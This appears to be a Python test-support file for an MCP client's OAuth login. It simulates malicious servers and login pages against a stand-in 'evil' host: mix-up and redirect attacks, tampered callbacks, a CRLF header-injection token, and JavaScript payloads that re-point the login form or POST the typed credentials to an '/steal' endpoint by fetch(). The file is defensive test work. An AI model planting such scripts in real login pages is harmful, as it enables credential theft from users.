"""What servers and pages that mean ill may do to a login: each changes a world in which all is well."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlencode

from tests.support.false_world import (
    CODE,
    SESSION,
    WELL_KNOWN,
    World,
    as_json,
    login_form,
    metadata,
    page,
)
from tests.support.recording import Said, Seen, moved

CALLBACK = "http://127.0.0.1:33418/callback"

Attack = Callable[[World], None]


def other_authorization_server(world: World) -> None:
    world.point_mcp_at(world.evil.url)


def login_page_of_its_own(world: World) -> None:
    world.serve(world.mcp)
    world.point_mcp_at(world.mcp.url)


def another_issuer(world: World) -> None:
    world.serve(world.mcp, issuer=world.nextcloud.url)
    world.point_mcp_at(world.mcp.url)


def endpoint_elsewhere(name: str) -> Attack:
    def attack(world: World) -> None:
        world.nextcloud.on(WELL_KNOWN, metadata(world.nextcloud.url, **{name: f"{world.evil.url}/x"}))

    attack.__name__ = f"{name}_elsewhere"
    return attack


def mixed_up_servers(world: World) -> None:
    """Nextcloud's codes and client for the token endpoint of the MCP server (RFC 9700, 4.4)."""
    world.serve(world.mcp)
    theirs = {
        "authorization_endpoint": f"{world.nextcloud.url}/authorize",
        "registration_endpoint": f"{world.nextcloud.url}/register",
    }
    world.mcp.on(WELL_KNOWN, metadata(world.mcp.url, **theirs))
    world.point_mcp_at(world.mcp.url)


def another_resource(world: World) -> None:
    world.point_mcp_at(world.nextcloud.url, resource=f"{world.evil.url}/mcp")


def metadata_that_redirects(world: World) -> None:
    world.nextcloud.on(WELL_KNOWN, moved(f"{world.evil.url}{WELL_KNOWN}", 302))
    world.evil.on(WELL_KNOWN, metadata(world.nextcloud.url, token_endpoint=f"{world.evil.url}/token"))


def authorization_that_redirects(world: World) -> None:
    world.serve(world.mcp)
    world.point_mcp_at(world.mcp.url)
    world.mcp.on("/authorize", moved(f"{world.evil.url}/login"))


def login_page_that_redirects(world: World) -> None:
    world.nextcloud.on("/login", moved("/one"))
    world.nextcloud.on("/one", moved(f"{world.evil.url}/login", 302))


def login_page(content: Callable[[World], str], head: Callable[[World], str] = lambda world: "") -> Attack:
    def attack(world: World) -> None:
        world.nextcloud.on("/login", page(content(world), head(world)))

    return attack


def form_answered_by(status: int, where: Callable[[World], str]) -> Attack:
    def attack(world: World) -> None:
        def login(seen: Seen) -> Said:
            return page(login_form()) if seen.method == "GET" else moved(where(world), status)

        world.nextcloud.on("/login", login)

    return attack


def callback_at(url: str) -> Attack:
    def attack(world: World) -> None:
        def authorize(seen: Seen) -> Said:
            if SESSION not in seen.headers.get("cookie", ""):
                return moved("/login")
            return moved(f"{url.replace('EVIL', world.evil.url)}?code={CODE}&state={seen.query['state']}")

        def login(seen: Seen) -> Said:
            if seen.method == "GET":
                return page(login_form())
            asked = next(one for one in world.nextcloud.seen if one.path == "/authorize")
            return moved(f"/authorize?{urlencode(asked.query)}", 303, f"session={SESSION}; Path=/")

        world.nextcloud.on("/authorize", authorize)
        world.nextcloud.on("/login", login)

    return attack


def client_managed_elsewhere(world: World) -> None:
    answer = {
        "client_id": "c-1",
        "registration_access_token": "nextcloud-registration-token",
        "registration_client_uri": f"{world.evil.url}/register/c-1",
    }
    world.nextcloud.on("/register", as_json(answer, 201))


def another_state(world: World) -> None:
    world.nextcloud.on("/authorize", moved(f"{CALLBACK}?code={CODE}&state=another"))


def token_with(text: str) -> Attack:
    def attack(world: World) -> None:
        world.nextcloud.on("/token", as_json({"access_token": text, "token_type": "Bearer"}))

    return attack


def refreshing(world: World) -> str:
    return f'<meta http-equiv="refresh" content="0; url={world.evil.url}/login">'


def scripted(world: World) -> str:
    return f"<script>location.href = '{world.evil.url}/login'</script>"


def late_action(world: World) -> str:
    return (
        f"{login_form()}<script>document.forms[0].password.addEventListener('input', () => "
        f"document.forms[0].setAttribute('action', '{world.evil.url}/login'))</script>"
    )


def submitted_elsewhere(world: World) -> str:
    return (
        f"{login_form()}<script>document.forms[0].addEventListener('submit', () => "
        f"document.forms[0].setAttribute('action', '{world.evil.url}/login'))</script>"
    )


def sent_by_script(world: World) -> str:
    return (
        f"{login_form()}<script>document.forms[0].addEventListener('submit', (event) => {{"
        f"event.preventDefault(); fetch('{world.evil.url}/steal', {{method: 'POST', mode: 'no-cors', "
        "body: new URLSearchParams(new FormData(document.forms[0]))})})</script>"
    )


ATTACKS: dict[str, Attack] = {
    "another authorization server": other_authorization_server,
    "a login page at the MCP server": login_page_of_its_own,
    "an issuer that is somebody else": another_issuer,
    "authorization endpoint elsewhere": endpoint_elsewhere("authorization_endpoint"),
    "token endpoint elsewhere": endpoint_elsewhere("token_endpoint"),
    "registration endpoint elsewhere": endpoint_elsewhere("registration_endpoint"),
    "codes of one server for another": mixed_up_servers,
    "tokens for another resource": another_resource,
    "metadata from elsewhere": metadata_that_redirects,
    "authorization that leads elsewhere": authorization_that_redirects,
    "a login page that leads elsewhere": login_page_that_redirects,
    "form action": login_page(lambda world: login_form(f"{world.evil.url}/login")),
    "form action at the MCP server": login_page(lambda world: login_form(f"{world.mcp.url}/login")),
    "form action relative to a base": login_page(
        lambda world: login_form("login"), lambda world: f'<base href="{world.evil.url}/">'
    ),
    "form in a frame": login_page(lambda world: f'<iframe src="{world.evil.url}/login"></iframe>'),
    "meta refresh": login_page(lambda world: "", refreshing),
    "a script that goes elsewhere": login_page(scripted),
    "form sent on (307)": form_answered_by(307, lambda world: f"{world.evil.url}/login"),
    "form sent on (308)": form_answered_by(308, lambda world: f"{world.mcp.url}/login"),
    "open redirect after the login": form_answered_by(303, lambda world: f"{world.evil.url}/login"),
    "callback with a longer path": callback_at(f"{CALLBACK}EVIL"),
    "callback at another port": callback_at("http://127.0.0.1:33419/callback"),
    "callback at another host": callback_at("EVIL/callback"),
    "client managed elsewhere": client_managed_elsewhere,
    "an answer for another login": another_state,
    "a token with a line break": token_with("abc\r\nX-Evil: 1"),
    "a token with a blank": token_with("abc def"),
    "a token beyond ASCII": token_with("abc\u2028def"),
}
IN_A_BROWSER: dict[str, Attack] = {
    "formaction": login_page(lambda world: login_form(button=f'formaction="{world.evil.url}/login"')),
    "another window": login_page(lambda world: login_form(more='target="_blank"')),
    "password in the address": login_page(lambda world: login_form(method="get")),
    "an action that changes while typing": login_page(late_action),
    "an action that changes when sent": login_page(submitted_elsewhere),
    "sent by a script": login_page(sent_by_script),
    "an input over the action": login_page(
        lambda world: login_form(f"{world.evil.url}/login").replace(
            "<input", '<input name="action"><input', 1
        )
    ),
    "a frame of its own with the form": login_page(
        lambda world: f'<iframe srcdoc="{login_form(world.evil.url).replace(chr(34), "&quot;")}"></iframe>'
    ),
}
